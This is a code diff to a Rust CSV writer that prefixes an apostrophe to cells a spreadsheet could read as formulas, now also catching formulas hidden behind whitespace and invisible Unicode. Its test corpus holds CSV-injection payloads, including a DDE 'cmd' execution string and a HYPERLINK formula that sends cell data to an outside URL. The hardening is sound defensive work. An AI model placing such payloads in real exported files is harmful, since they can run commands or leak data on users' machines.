@@ -1,7 +1,18 @@
 //! Cells of a table as text (RFC 4180), none of which a spreadsheet takes for a formula.
 
-/// What spreadsheets begin a formula with, in ASCII and in its full-width likeness, and what they skip before one.
-const FORMULA: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
+/// What spreadsheets begin a formula with, in ASCII and in its full-width likeness.
+const FORMULA: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
+
+/// What is not seen, and may be skipped before a formula.
+fn is_blank(letter: char) -> bool {
+    letter.is_whitespace()
+        || letter.is_control()
+        || matches!(letter, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}')
+}
+
+fn is_formula(text: &str) -> bool {
+    text.starts_with(['\t', '\r']) || text.trim_start_matches(is_blank).starts_with(FORMULA)
+}
 
 /// Adds a row.
 pub(super) fn row<'a>(out: &mut String, cells: impl IntoIterator<Item = &'a str>) {
@@ -15,7 +26,7 @@ pub(super) fn row<'a>(out: &mut String, cells: impl IntoIterator<Item = &'a str>
 }
 
 fn cell(out: &mut String, text: &str) {
-    let guard = if text.starts_with(FORMULA) { "'" } else { "" };
+    let guard = if is_formula(text) { "'" } else { "" };
     if !text.contains(['"', ',', '\r', '\n']) {
         out.push_str(guard);
         out.push_str(text);
@@ -58,7 +69,7 @@ mod tests {
     }
 
     /// What people have been hurt by, and what merely looks odd.
-    const CORPUS: [&str; 24] = [
+    const CORPUS: [&str; 28] = [
         "=cmd|' /C calc'!A0",
         "=HYPERLINK(\"http://example.org?\"&A1,\"Click\")",
         "+1+2",
@@ -79,6 +90,10 @@ mod tests {
         "line\nbreak",
         "line\r\nbreak",
         "\n=1+1",
+        " =1+1",
+        "\u{a0}\u{200b}=1+1",
+        "\u{feff}@SUM(A1)",
+        " ordinary",
         "'",
         "\u{202e}abc\0",
         "ordinary text",
@@ -94,8 +109,8 @@ mod tests {
             assert_eq!(rows.len(), 1, "{text:?}");
             let (found, next) = (&rows[0][0], &rows[0][1]);
             assert_eq!(next, "next");
-            assert!(!found.starts_with(FORMULA), "{text:?} became {found:?}");
-            assert_eq!(found.strip_prefix('\'').filter(|_| text.starts_with(FORMULA)).unwrap_or(found), text);
+            assert!(!is_formula(found), "{text:?} became {found:?}");
+            assert_eq!(found.strip_prefix('\'').filter(|_| is_formula(text)).unwrap_or(found), text);
         }
     }
 
